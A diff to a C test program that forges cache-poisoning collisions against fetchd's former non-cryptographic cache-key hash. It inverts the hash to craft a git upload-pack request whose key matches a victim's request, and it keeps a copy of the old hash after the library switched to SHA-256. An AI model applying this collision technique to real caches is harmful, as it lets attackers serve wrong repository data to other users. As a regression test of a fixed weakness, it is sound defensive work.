@@ -2,10 +2,11 @@
 /* t-fetchd's cache-poisoning attack: given the oid fetchd-client -r main
  * wants (VICTIM) and another ref's (ATTACK), write the victim's request
  * body and a valid upload-pack request for ATTACK whose fk_hash equals it.
- * fk_hash (fetchd's cache key before SHA-256) is a chain of invertible
+ * fk_hash (fetchd's cache key before SHA-256; old_hash below, as it was
+ * then: the library's fk_hash has since changed) is a chain of invertible
  * steps, so the 8 bytes hidden among the first line's capabilities are
  * solved for by running the steps backwards from the victim's hash.
- * Exits 0 only when the two bodies differ and their fk_hash agree. */
+ * Exits 0 only when the two bodies differ and their old hashes agree. */
 #include "util/fk.h"
 
 #include <stdio.h>
@@ -22,6 +23,25 @@ static uint64_t mix(uint64_t h)
     h *= 0xc4ceb9fe1a85ec53ULL;
     h ^= h >> 33;
     return h;
+}
+
+/* fetchd's cache key hash before SHA-256 (util/fk.c's fk_hash then) */
+static uint64_t old_hash(const void *data, size_t len)
+{
+    const unsigned char *p = data;
+    uint64_t h = 0x9e3779b97f4a7c15ULL ^ (len * 0x100000001b3ULL);
+    while (len >= 8) {
+        uint64_t w;
+        memcpy(&w, p, 8);
+        h = (h ^ mix(w)) * K;
+        h ^= h >> 29;
+        p += 8;
+        len -= 8;
+    }
+    uint64_t tail = 0;
+    memcpy(&tail, p, len);
+    h = (h ^ mix(tail ^ len)) * K;
+    return mix(h);
 }
 
 static uint64_t inverse(uint64_t a)     /* of an odd a, mod 2^64 (Newton) */
@@ -78,7 +98,7 @@ int main(int argc, char **argv)
     size_t vl = pkt(v, line, (size_t)n);
     memcpy(v + vl, "0000", 4), vl += 4;
     vl += pkt(v + vl, "done\n", 5);
-    uint64_t target = fk_hash(v, vl);
+    uint64_t target = old_hash(v, vl);
     /* The attack, same length: a shorter capability list, padding, the free
      * word at an 8-byte boundary, padding, the newline. */
     const size_t line_len = (size_t)n;
@@ -113,7 +133,7 @@ int main(int argc, char **argv)
         /* git reads the capabilities as text: no NUL or newline inside. */
         if (memchr(a + free_off, 0, 8) || memchr(a + free_off, '\n', 8))
             continue;
-        if (fk_hash(a, al) != target || memcmp(a, v, vl) == 0)
+        if (old_hash(a, al) != target || memcmp(a, v, vl) == 0)
             break;
         FILE *fv = fopen(argv[3], "wb"), *fa = fopen(argv[4], "wb");
         if (!fv || !fa || fwrite(v, 1, vl, fv) != vl || fwrite(a, 1, al, fa) != al ||
